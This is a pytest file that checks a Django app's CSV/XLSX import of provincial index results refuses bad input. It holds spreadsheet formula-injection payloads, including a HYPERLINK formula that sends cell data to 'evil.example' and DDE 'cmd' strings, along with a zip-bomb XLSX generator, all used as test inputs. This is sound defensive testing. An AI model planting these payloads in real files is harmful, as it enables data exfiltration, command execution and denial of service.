"""Imports refuse bad input clearly and write nothing: formula payloads, control characters, over-long
values, uncomputed formulas, oversized and bombed files (CSV and XLSX, the function, the command and
the admin); a large valid table imports in seconds. Time and peak memory are printed (``pytest -s``),
never asserted against a clock."""

from __future__ import annotations

import csv
import io
import resource
import time
import tracemalloc
import zipfile
from contextlib import contextmanager
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from curation import imports
from provinces.models import Era, Province
from reports.models import Edition, Index, Result

from .test_imports import SMALL, check, rejected, snapshot

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=2+2",
]


@pytest.fixture
def par(real_data):
    return Index.objects.get(code="PAR_INDEX")


@contextmanager
def measured(label: str, traced: bool = True):
    """Print wall time and peak Python memory (tracemalloc, which slows the block) of the block, and the
    process's max RSS."""
    if traced:
        tracemalloc.start()
    started = time.perf_counter()
    figures = {}
    try:
        yield figures
    finally:
        seconds = time.perf_counter() - started
        _current, peak = tracemalloc.get_traced_memory() if traced else (0, 0)
        if traced:
            tracemalloc.stop()
        rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        figures.update(seconds=seconds, peak_mb=peak / 1024 / 1024)
        print(f"\n[measure] {label}: {seconds:.2f} s, peak {peak / 1024 / 1024:.1f} MB traced, max RSS {rss:.0f} MB")


def with_group(group: str) -> str:
    return SMALL.replace(";2;B", f";2;{_csv_cell(group)}")


def _csv_cell(value: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="").writerow([value])
    return buffer.getvalue()


def xlsx(rows: list[list]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


SMALL_ROWS = [line.split(";") for line in SMALL.strip().splitlines()]


# --- formula payloads, control characters, over-long text -----------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "dde", "minus", "at", "plus-formula", "tab"])
def test_a_formula_payload_in_the_group_is_a_row_error_and_nothing_is_written(par, payload):
    errors = rejected(with_group(payload), par)
    assert "bảng tính sẽ chạy nó như công thức" in errors and "dòng 2" in errors
    assert not Result.objects.filter(group__contains=payload.strip()[:4]).exists()


@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "dde", "minus", "at", "plus-formula", "tab"])
def test_a_formula_payload_in_an_xlsx_text_cell_is_a_row_error(par, payload):
    rows = [list(r) for r in SMALL_ROWS]
    rows[1][4] = payload
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    sheet["E2"].data_type = "s"  # a text cell that reads like a formula, not a formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    errors = rejected(buffer.getvalue(), par, filename="bang.xlsx")
    assert "bảng tính sẽ chạy nó như công thức" in errors


@pytest.mark.parametrize("bad", ["B\x00", "B\x01C", "Nhóm\x1b[31m", "x" * 81], ids=["nul", "soh", "escape", "81-chars"])
def test_control_characters_and_over_long_groups_are_refused_before_the_database(par, bad):
    errors = rejected(with_group(bad), par)
    assert ("ký tự điều khiển" in errors) or ("tối đa 80" in errors)


def test_a_nul_in_a_province_or_score_cell_is_a_row_error(par):
    assert "ký tự điều khiển" in rejected(SMALL.replace("Hà Giang", "Hà\x00Giang"), par)
    assert "ký tự điều khiển" in rejected(SMALL.replace("81,20", "81\x00,20"), par)


def test_an_xlsx_formula_without_a_computed_value_is_a_row_error(par):
    rows = [list(r) for r in SMALL_ROWS]
    rows[1][2] = "=80+1.2"  # openpyxl writes the formula, no cached value (as a generator script would)
    errors = rejected(xlsx(rows), par, filename="bang.xlsx")
    assert "chưa có giá trị đã tính" in errors and "dòng 2" in errors


def test_a_header_excel_wrapped_onto_two_lines_parses(par):
    table = SMALL.replace("Tỉnh/Thành phố;", '"Tỉnh/\nThành phố";', 1).replace(";Điểm;", ';"Điểm\r\n(thang 100)";', 1)
    report = check(table, par)
    assert report.ok, report.errors
    assert len(report.rows) == 3


# --- sizes ---------------------------------------------------------------------------------------------


def big_csv(path: Path, rows: int, names: list[str] | None = None) -> Path:
    """``rows`` data rows; with ``names`` a valid table (distinct units, scores, ranks), else real names
    repeated (well formed, duplicates)."""
    real = list(Province.objects.filter(era=Era.UNITS_63, is_synthetic=False).values_list("name", flat=True))
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, delimiter=";")
        writer.writerow(["Tỉnh/Thành phố", "Điểm", "Xếp hạng", "Nhóm"])
        for i in range(rows):
            name = names[i] if names else real[i % len(real)]
            writer.writerow([name, f"{90 - i * 80 / max(rows, 1):.2f}".replace(".", ","), i + 1, "B"])
    return path


def test_a_4000_row_file_is_checked_in_seconds_with_row_errors_not_pairs(par, tmp_path):
    data = big_csv(tmp_path / "4000.csv", 4000).read_bytes()
    before = snapshot()
    with measured(f"validate 4,000-row CSV ({len(data) / 1024:.0f} KB), duplicates") as m:
        report = check(data, par)
    assert not report.ok and len(report.rows) == 4000
    assert "trùng với dòng" in "\n".join(report.errors)
    assert len(report.errors) < 4 * 4000  # a few messages per row, not one per pair
    assert snapshot() == before
    assert m["peak_mb"] < 500


def test_a_valid_4000_row_table_imports_in_seconds(par, tmp_path):
    era63 = Province.objects.filter(era=Era.UNITS_63, is_synthetic=False).first()
    Province.objects.bulk_create(
        Province(
            code=f"T{i:04d}",
            name=f"Tỉnh thử tải {i:04d}",
            name_en=f"Load test {i:04d}",
            slug=f"thu-tai-{i:04d}",
            kind=Province.Kind.PROVINCE,
            era=Era.UNITS_63,
            region_id=era63.region_id,
            is_synthetic=True,
            search_text=f"tinh thu tai {i:04d}",
        )
        for i in range(4000)
    )
    Edition.objects.create(index=par, year=2011, is_synthetic=True, units_ranked=4000)
    names = [f"Tỉnh thử tải {i:04d}" for i in range(4000)]
    data = big_csv(tmp_path / "valid-4000.csv", 4000, names).read_bytes()
    with measured("validate a valid 4,000-row CSV") as m:
        report = check(data, par, synthetic=True)
    assert report.ok, report.errors[:5]
    with measured("apply 4,000 rows (history recorded; not traced)", traced=False):
        imports.apply(report)
    assert Result.objects.filter(edition__year=2011, edition__is_synthetic=True).count() == 4000
    assert m["peak_mb"] < 500


def test_a_25000_row_csv_is_refused_unread(par, tmp_path):
    data = big_csv(tmp_path / "25000.csv", 25000).read_bytes()
    with measured(f"25,000-row CSV ({len(data) / 1024 / 1024:.1f} MB)"):
        errors = rejected(data, par)
    assert "hơn 20.000 dòng" in errors


def test_an_11_mb_file_is_refused_unparsed(par, tmp_path):
    path = tmp_path / "11mb.csv"
    path.write_bytes(SMALL.encode() + b"# " + b"x" * (11 * 1024 * 1024) + b"\n")
    with measured("11 MB CSV"):
        errors = rejected(path.read_bytes(), par)
    assert "giới hạn 10.0 MB" in errors


def zip_bomb(path: Path, uncompressed_mb: int, *, rows_per_mb: int = 0) -> Path:
    """A real workbook whose first sheet is replaced by a huge, highly compressible sheet: either one
    enormous cell (``rows_per_mb`` 0) or many small rows."""
    base = io.BytesIO()
    workbook = openpyxl.Workbook()
    workbook.active.append(["Tỉnh/Thành phố", "Điểm"])
    workbook.save(base)
    chunk = b"A" * (1024 * 1024)
    if rows_per_mb:
        row = b'<row><c t="inlineStr"><is><t>H\xc3\xa0 Giang</t></is></c><c><v>80</v></c></row>'
        chunk = row * (1024 * 1024 // len(row))
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                out.writestr(item, source.read(item.filename))
                continue
            with out.open(item.filename, "w", force_zip64=True) as sheet:
                sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/')
                sheet.write(b'spreadsheetml/2006/main"><sheetData>')
                if not rows_per_mb:
                    sheet.write(b'<row><c t="inlineStr"><is><t>')
                for _ in range(uncompressed_mb):
                    sheet.write(chunk)
                end = b"</sheetData></worksheet>"
                sheet.write(end if rows_per_mb else b"</t></is></c></row>" + end)
    return path


def test_an_xlsx_zip_bomb_is_refused_before_openpyxl_opens_it(par, tmp_path):
    path = zip_bomb(tmp_path / "bomb.xlsx", 1024)
    data = path.read_bytes()
    with measured(f"XLSX zip bomb ({len(data) / 1024:.0f} KB zip, 1 GB sheet)"):
        errors = rejected(data, par, filename="bomb.xlsx")
    assert "giải nén ra" in errors and "quá giới hạn 100.0 MB" in errors


def test_an_xlsx_of_many_rows_within_the_size_limit_stops_at_the_row_limit(par, tmp_path):
    path = zip_bomb(tmp_path / "rows.xlsx", 60, rows_per_mb=1)
    data = path.read_bytes()
    with measured(f"XLSX of ~800,000 rows ({len(data) / 1024:.0f} KB zip, 60 MB sheet)") as m:
        errors = rejected(data, par, filename="rows.xlsx")
    assert "hơn 20.000 dòng" in errors
    assert m["peak_mb"] < 500


def test_the_command_refuses_oversized_files_with_a_message(par, tmp_path):
    path = zip_bomb(tmp_path / "bomb.xlsx", 200)
    before = snapshot()
    with measured("import_results on a 200 MB zip bomb"), pytest.raises(CommandError, match="Tệp bị từ chối"):
        call_command("import_results", str(path), index="PAR_INDEX", year=2011)
    assert snapshot() == before


# --- the admin: never a 500, the same sizes in preview and apply ------------------------------------


@pytest.fixture
def curator(client, django_user_model, real_data):
    user = django_user_model.objects.create_superuser("bien.tap", "bt@example.org", "mat-khau-dai-9")
    client.force_login(user)
    return user


def _post(client, par, name: str, data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        reverse("admin:reports_edition_import"),
        {"file": SimpleUploadedFile(name, data), "index": par.pk, "year": 2011, "preview": "1"},
    )


def test_the_admin_refuses_each_bad_file_clearly(client, curator, par, tmp_path):
    files = {
        "4000.csv": big_csv(tmp_path / "4000.csv", 4000).read_bytes(),
        "25000.csv": big_csv(tmp_path / "25000.csv", 25000).read_bytes(),
        "bomb.xlsx": zip_bomb(tmp_path / "bomb.xlsx", 300).read_bytes(),
        "50mb.csv": SMALL.encode() + b"# " + b"x" * (50 * 1024 * 1024),
        "group.csv": with_group("=1+1").encode(),
    }
    before = snapshot()
    for name, data in files.items():
        started = time.perf_counter()
        response = _post(client, par, name, data)
        print(f"\n[measure] admin preview of {name}: {time.perf_counter() - started:.2f} s")
        assert response.status_code == 200, name
        body = response.content.decode()
        assert "Tệp bị từ chối" in body or "lớn hơn giới hạn" in body, name
        assert not response.context.get("apply_form"), name
    assert snapshot() == before


def test_a_valid_3_mb_file_previews_and_applies(client, curator, par):
    notes = "x" * 52_000  # an ignored notes column makes a valid 3-row table weigh ~3.25 MB with padding rows
    lines = SMALL.strip().splitlines()
    table = [lines[0] + ";Ghi chú"] + [line + ";" + notes for line in lines[1:]]
    data = ("\n".join(table) + "\n" + "".join(f"# {notes}\n" for _ in range(62))).encode()
    assert len(data) > 3.2 * 1024 * 1024
    response = _post(client, par, "big-valid.csv", data)
    assert response.status_code == 200
    apply_form = response.context["apply_form"]
    fields = {name: apply_form[name].value() for name in apply_form.fields}
    assert sum(len(str(v)) for v in fields.values()) < 1000  # the file is not posted back
    response = client.post(reverse("admin:reports_edition_import"), {**fields, "apply": "1"})
    assert response.status_code == 302
    edition = Edition.objects.get(index=par, year=2011, is_synthetic=False)
    assert edition.results.get(province__name="Hà Giang").score == Decimal("81.20")
